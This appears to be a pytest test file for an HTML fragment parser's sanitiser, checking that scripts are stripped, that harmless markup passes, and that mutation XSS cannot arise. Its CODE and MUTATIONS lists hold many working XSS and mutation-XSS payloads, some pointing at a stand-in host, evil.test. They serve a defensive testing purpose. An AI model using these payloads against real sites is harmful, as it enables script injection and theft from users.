"""HTML text to nodes: the context, what is left out and how that is told, hostile sizes."""

from __future__ import annotations

import warnings

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domsync_jupyter.dom import Document, Element, Node, names, safety
from domsync_jupyter.dom.parsing import MAX_DEPTH, parse_fragment
from domsync_jupyter.dom.serialising import serialise
from domsync_jupyter.errors import InvalidCharacterError, SecurityError, UnsafeMarkupWarning

# Code in all the places where a browser has ever looked for it. Each has to be left out, with a warning.
CODE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<math><script>alert(1)</script></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg xml:onload=alert(1)>",
    "<body-x onclick=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='da&Tab;ta:text/html,x'>x</a>",
    "<a href='data:image/svg+xml,<svg/>'>x</a>",
    "<a href='data:application/xhtml+xml,x'>x</a>",
    "<a href='data:text/xml,x'>x</a>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><a href=javascript:alert(1)>x</a></svg>",
    "<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:alert(1)>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a/>#a'/></svg>",
    "<svg><use xlink:href='data:image/svg+xml;base64,AAAA#a'/></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "<svg><a><animate attributeName=' HREF ' values='#'/></a></svg>",
    "<svg><a><set attributeName=xlink:href to=javascript:alert(1) /></a></svg>",
    "<svg xmlns:x=http://www.w3.org/1999/xlink><a><set attributeName=x:href to='#'/></a></svg>",
    "<svg><a><animate attributeName=d values='#;javascript:alert(1)'/></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<math><maction actiontype='statusline#x' xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='data:image/svg+xml,<svg onload=alert(1)>'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=javascript:alert(1)><input></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image formaction=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test>",
    "<link rel=import href=//evil.test>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img></noframes>",
    "<xmp><img></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<portal src=//evil.test>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<x:script>alert(1)</x:script>",
    "<svg><x:script>alert(1)</x:script></svg>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;' onerror=x>",
]

# Without code when they are parsed once, and with code when a browser's serialisation is parsed again.
MUTATIONS = [
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<div><svg><foreignObject><style><!--</style><p id='--><img src onerror=alert(1)>'>",
    "<a title='<style></style><img src onerror=alert(1)>'><style></a>",
    "<select><iframe><select><img src onerror=alert(1)>",
]

HARMLESS = [
    "<p>Plain &amp; simple</p>",
    "<a href=https://example.org/?a=1&amp;b=2>x</a>",
    "<a href=/relative#fragment>x</a>",
    "<a href=mailto:a@example.org>x</a>",
    '<a href="data:text/csv;charset=utf-8,a,b" download="x.csv">x</a>',
    '<a href="data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64,AAAA">x</a>',
    '<a title="javascript:alert(1)">x</a>',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="data:image/svg+xml,<svg/>">',
    '<video poster="x.png" src="x.mp4" controls></video>',
    '<div style="background: url(x.png)"></div>',
    "<style>@media (width > 3px) { p > b { color: red } }</style>",
    '<svg><use href="#a"></use><a href="#b"><text>x</text></a></svg>',
    '<svg><animate attributeName="x" from="1" to="2"></animate></svg>',
    '<iframe src="https://example.org/"></iframe>',
    '<form action="/x"><button formaction="/y">x</button></form>',
    "<template><p>x</p></template>",
    "<!-- a comment -->",
    "<math><mi>x</mi></math>",
]  # fmt: skip


@pytest.fixture
def document() -> Document:
    return Document()


def parse(document: Document, html: str, context: str = "div") -> list[Node]:
    return parse_fragment(document, html, document.createElement(context))


def html_of(nodes: list[Node]) -> str:
    return "".join(serialise(node, outer=True) for node in nodes)


def elements(nodes: list[Node]) -> list[Element]:
    tops = [node for node in nodes if isinstance(node, Element)]
    return [each for top in tops for each in (top, *top._descendants())]


@pytest.mark.parametrize("html", CODE)
def test_code_is_left_out_with_one_warning(document: Document, html: str) -> None:
    with pytest.warns(UnsafeMarkupWarning) as caught:
        nodes = parse(document, html)
    assert len(caught) == 1
    for element in elements(nodes):
        assert safety.tag_danger(element._tag.lower()) is None
        for key, value in element._attributes.items():
            name = key if isinstance(key, str) else key[1]
            assert safety.attribute_danger(element._tag, name.lower(), value) is None
    # The parser finds no code when it sees again what is left; a warning would be an error here.
    parse(document, html_of(nodes))


@pytest.mark.parametrize("html", CODE)
def test_allow_unsafe_lets_it_in(html: str) -> None:
    document = Document(allow_unsafe=True)
    assert parse(document, html)


@pytest.mark.parametrize("html", HARMLESS)
def test_what_is_harmless_is_let_in(document: Document, html: str) -> None:
    assert parse(document, html)


@pytest.mark.parametrize("html", CODE)
def test_the_other_ways_refuse_the_same(document: Document, html: str) -> None:
    """What `createElementNS` and `setAttribute` refuse is what the parser leaves out."""
    unsafe = Document(allow_unsafe=True)
    refused = 0
    for element in elements(parse(unsafe, html)):
        try:
            copy = document.createElementNS(element._namespace, element._tag)
            for key, value in element._attributes.items():
                if isinstance(key, str):
                    copy.setAttribute(key, value)
                else:
                    copy.setAttributeNS(*key, value)
        except SecurityError:
            refused += 1
    assert refused


def test_a_warning_names_what_was_left_out_and_whom_to_blame(document: Document) -> None:
    def set_inner_html(html: str) -> list[Node]:
        return parse(document, html)

    with pytest.warns(UnsafeMarkupWarning, match=r"<script>, onclick='f\(\)' of <p>\. Use") as caught:
        set_inner_html("<script>f()</script><p onclick=f()>")
    assert caught[0].filename == __file__


def test_a_warning_has_a_bounded_length(document: Document) -> None:
    html = "".join(f"<p on{'x' * 1000}{i}={'y' * 1000}>" for i in range(1000))
    with pytest.warns(UnsafeMarkupWarning, match="and 995 more") as caught:
        parse(document, html)
    assert len(str(caught[0].message)) < 800


def test_an_error_of_the_warning_changes_nothing(document: Document) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(UnsafeMarkupWarning):
            parse(document, "<p id=here><script></script>")
    assert document.getElementById("here", strict=False) is None


def test_texts_meet_where_something_was_left_out(document: Document) -> None:
    with pytest.warns(UnsafeMarkupWarning):
        nodes = parse(document, "a<script>b</script>c")
    assert [node.textContent for node in nodes] == ["ac"]


@pytest.mark.parametrize(
    ("context", "html", "expected"),
    [
        ("div", "<td>x</td>", "x"),
        ("tr", "<td>x</td>", "<td>x</td>"),
        ("table", "<tr><td>x", "<tbody><tr><td>x</td></tr></tbody>"),
        ("textarea", "<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
        ("style", "a > b", "a &gt; b"),
        ("select", "<option>a<option>b", "<option>a</option><option>b</option>"),
        ("template", "<td>x", "<td>x</td>"),
        ("div", "<html><head></head><body><p>x</p></body></html>", "<p>x</p>"),
        ("div", "<image>", "<img>"),
        ("div", "a\r\nb\rc", "a\nb\nc"),
        ("div", "a\0b", "ab"),
        ("div", "", ""),
        ("table", "x", "x"),
        ("div", "<p>a<table><tr><td>b", "<p>a</p><table><tbody><tr><td>b</td></tr></tbody></table>"),
        ("div", "<pre>\n\nx</pre>", "<pre>\nx</pre>"),
        ("div", "<svg viewbox='0 0 1 1'><foreignobject><p>x", None),
        ("div", "<?xml version='1.0'?>x", "<!--?xml version='1.0'?-->x"),
    ],
)
def test_the_context_counts(document: Document, context: str, html: str, expected: str | None) -> None:
    nodes = parse(document, html, context)
    if expected is None:
        expected = '<svg viewBox="0 0 1 1"><foreignObject><p>x</p></foreignObject></svg>'
    assert html_of(nodes) == expected


def test_a_foreign_context(document: Document) -> None:
    svg = document.createElementNS(names.SVG, "svg")
    (circle,) = parse_fragment(document, "<circle r=1 />", svg)
    assert isinstance(circle, Element)
    assert (circle.namespaceURI, circle.tagName) == (names.SVG, "circle")


def test_namespaces_of_attributes(document: Document) -> None:
    (svg,) = parse(document, "<svg xmlns:xlink=x xlink:href=#a xml:lang=en other:href=b xmlns=c>")
    assert isinstance(svg, Element)
    assert svg._attributes == {
        (names.XMLNS, "xmlns:xlink"): "x",
        (names.XLINK, "xlink:href"): "#a",
        (names.XML, "xml:lang"): "en",
        "other:href": "b",
        (names.XMLNS, "xmlns"): "c",
    }
    (div,) = parse(document, "<div xlink:href=#a>")
    assert isinstance(div, Element)
    assert div._attributes == {"xlink:href": "#a"}


def test_a_form_in_a_form_is_no_form(document: Document) -> None:
    form = document.createElement("form")
    div = document.createElement("div")
    form.appendChild(div)
    nodes = parse_fragment(document, "<form><input></form><template><form></form></template>", div)
    assert html_of(nodes) == "<input><template><form></form></template>"


def test_ids_are_found_as_soon_as_the_nodes_are_in_the_tree(document: Document) -> None:
    document.getRootElement().append(*parse(document, "<p><b id=deep>x</b></p>"))
    found = document.getElementById("deep")
    assert found is not None
    assert found.isConnected


def test_a_single_text_does_not_become_a_node(document: Document) -> None:
    (p,) = parse(document, "<p>text</p>")
    assert isinstance(p, Element)
    assert p._kids == "text"
    assert p.firstChild is not None


def test_nodes_know_their_places(document: Document) -> None:
    (div,) = parse(document, "<div>a<b>b</b><i>c</i></div>")
    kids = div.childNodes
    assert [kid.parentNode for kid in kids] == [div, div, div]
    assert kids[0].nextSibling is kids[1]
    assert kids[2].previousSibling is kids[1]
    assert isinstance(kids[1], Element)
    kids[1].remove()
    assert kids[0].nextSibling is kids[2]


@pytest.mark.parametrize("html", ["<div>" * 5000, "<b><p>" * 2000, "<svg><g>" * 2000, "<template>" * 2000])
def test_depth_has_a_limit(document: Document, html: str) -> None:
    root = document.getRootElement()
    root.replaceChildren(*parse(document, html))
    deepest = max(len(list(_ancestors(element))) for element in elements([root]))
    assert deepest <= MAX_DEPTH + 2
    assert serialise(root, outer=False)


def _ancestors(element: Element) -> list[Element]:
    result = []
    parent = element.parentElement
    while parent is not None:
        result.append(parent)
        parent = parent.parentElement
    return result


def test_arguments_are_checked(document: Document) -> None:
    with pytest.raises(TypeError, match="must be a str"):
        parse(document, None)  # type: ignore[arg-type]
    with pytest.raises(InvalidCharacterError, match="surrogate"):
        parse(document, "\ud800")
    assert html_of(parse(document, "&#xD800;")) == "\ufffd"


def assert_safe_for_all_parsers(html: str) -> None:
    unsafe = Document(allow_unsafe=True)
    for context in ("div", "svg", "math", "template", "td", "select"):
        for element in elements(parse_fragment(unsafe, f"<{context}>{html}", unsafe.createElement("div"))):
            assert safety.tag_danger(element._tag.lower()) is None, html
            for key, value in element._attributes.items():
                name = key if isinstance(key, str) else key[1]
                assert safety.attribute_danger(element._tag, name.lower(), value) is None, html


@pytest.mark.parametrize("html", MUTATIONS)
def test_mutation_makes_no_code(document: Document, html: str) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # what two of them bring is seen as code at once
        text = html_of(parse(document, html))
    for _ in range(3):
        assert_safe_for_all_parsers(text)
        text = html_of(parse(document, text))


@pytest.mark.parametrize("html", MUTATIONS[:1])
def test_mutation_would_make_code(html: str) -> None:
    """What is tested above is a danger: without the care of `serialise`, there is code."""
    unsafe = Document(allow_unsafe=True)
    text = html_of(parse(unsafe, html))
    with pytest.raises(AssertionError):
        assert_safe_for_all_parsers(text)


FRAGMENTS = st.lists(
    st.sampled_from(
        """<p> </p> <b> </b> <i> <a> </a> <table> <tr> <td> </table> <form> </form> <svg> </svg> <math> </math>
        <mtext> <mglyph> <malignmark> <annotation-xml> <foreignObject> <desc> <title> </title> <style> </style>
        <select> <option> </select> <template> </template> <textarea> </textarea> <iframe> </iframe> <xmp>
        <noscript> <plaintext> <script> </script> <!-- --> --!> <![CDATA[ ]]> <img&#32;src=x&#32;onerror=f()>
        &lt; &amp; &gt; " ' <a&#32;href="javascript:f()"> <p&#32;title="--><img&#32;onerror=f()>"> <li> <h1>
        </h1> <font&#32;color=x>
        <svg><style><img&#32;onerror=f()> <nobr> <button> <dd> <frameset> <br> </br>
        </p> <image> <caption> <col>""".replace("&#32;", "\x1f").split()
    ).map(lambda text: text.replace("\x1f", " ")),
    max_size=14,
).map("".join)


@given(FRAGMENTS)
def test_what_was_serialised_is_safe_to_parse_again(html: str) -> None:
    """However the next parser reads it, there is no code in it: no mutation XSS."""
    document = Document()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        text = html_of(parse(document, html))
    assert_safe_for_all_parsers(text)
